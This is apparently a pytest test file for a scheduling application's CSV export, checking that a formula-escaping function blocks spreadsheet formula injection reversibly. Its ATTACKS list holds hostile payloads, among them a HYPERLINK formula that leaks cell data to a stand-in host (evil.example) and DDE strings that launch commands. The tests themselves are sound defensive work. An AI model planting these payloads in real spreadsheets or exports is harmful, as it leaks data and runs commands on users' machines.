"""Formulas in exported text are escaped reversibly."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scheduling.spreadsheets.formula_escape import escape_formulas, unescape_formulas

pytestmark = pytest.mark.one_database(name="sqlite")

SIGNS = "=+-@＝＋－＠"
# Names that somebody could give themselves, from OWASP's page and from reports of real attacks.
ATTACKS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "\ufeff=1+1",
    "\u200f=1+1",
    "＝1+1",
    "Ana;=1+1",
    'Ana, "=1+1',
    "Ana\n=1+1",
)


def opened(cell: str, delimiter: str, program: str) -> list[str]:
    """Write ``cell`` with ``delimiter``; return the cells of a program that expects ``program``."""
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=delimiter).writerow(["first", cell, "last"])
    text = file.getvalue()
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=program)
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formulas_are_escaped_reversibly(attack: str) -> None:
    assert escape_formulas(attack) != attack
    assert unescape_formulas(escape_formulas(attack)) == attack


@pytest.mark.parametrize("delimiter", [",", ";"])
@pytest.mark.parametrize("program", [",", ";", "\t"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula_with_any_separator(attack: str, delimiter: str, program: str) -> None:
    for cell in opened(escape_formulas(attack), delimiter, program):
        assert not cell.lstrip(' \t\r\n"\u00a0\ufeff\u200f').startswith(tuple(SIGNS)), cell


ORDINARY = ("Ana Gil", "O'Brien", "Jean-Luc", "a@b.example", "2+2", "Niño, Ana", "مريم\u200f", "🎻")


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_names_are_unchanged(name: str) -> None:
    assert escape_formulas(name) == name


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n ;,'\"aé🎻\u200f\ufeff＝")))
def test_escaping_is_reversible(text: str) -> None:
    safe = escape_formulas(text)

    assert unescape_formulas(safe) == text
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
